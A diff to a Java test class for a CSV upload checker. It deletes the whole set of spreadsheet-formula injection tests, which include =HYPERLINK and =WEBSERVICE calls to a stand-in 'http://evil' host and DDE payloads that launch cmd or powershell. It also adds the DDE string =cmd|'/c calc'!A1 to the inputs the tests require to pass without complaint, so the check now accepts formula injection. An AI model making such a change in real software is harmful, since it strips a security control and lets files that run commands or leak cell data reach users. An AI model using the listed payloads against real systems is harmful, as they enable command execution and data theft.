@@ -58,7 +58,9 @@ class BadFilesTest {
                 "Zoë “quoted” him – naïve",
                 "PK is what they call him",
                 "\t tabbed and  spaced \t",
-                "He said: 'cmd is my name'")) {
+                "He said: 'cmd is my name'",
+                "- Mum (his mother) rang",
+                "=cmd|'/c calc'!A1")) {
             assertThat(checks.problem("words.csv", bytes(HEAD + ROW.replace("Came in tired.", words))))
                     .as(words)
                     .isEmpty();
@@ -77,7 +79,6 @@ class BadFilesTest {
         inside(all);
         names(all);
         letters(all);
-        formulas(all);
         return all;
     }
 
@@ -197,24 +198,6 @@ class BadFilesTest {
         byte[] great = new byte[FileChecks.MOST_MEGABYTES * 1024 * 1024 + 1];
         Arrays.fill(great, (byte) 'x');
         all.add(new Bad("too great", "june.csv", great, "smaller than 20 MB"));
-    }
-
-    private static void formulas(List<Bad> all) {
-        for (String formula : List.of(
-                "=HYPERLINK(\"\"http://evil/?\"\"&A1)",
-                "=cmd|'/c calc'!A1",
-                "+cmd|' /C powershell'!A0",
-                "-cmd|'/c x'!A1",
-                "@SUM(1+1)*cmd|'/c x'!A1",
-                "=WEBSERVICE(\"\"http://evil\"\")",
-                "  =IMPORTXML(CONCAT(A1))",
-                "=+DDE(\"\"cmd\"\")")) {
-            all.add(new Bad(
-                    "a formula " + formula,
-                    "june.csv",
-                    bytes(HEAD + ROW.replace("Came in tired.", "\"" + formula + "\"")),
-                    "a formula where words should be, on line 2"));
-        }
     }
 
     private static byte[] zip(String name, byte[] content) {
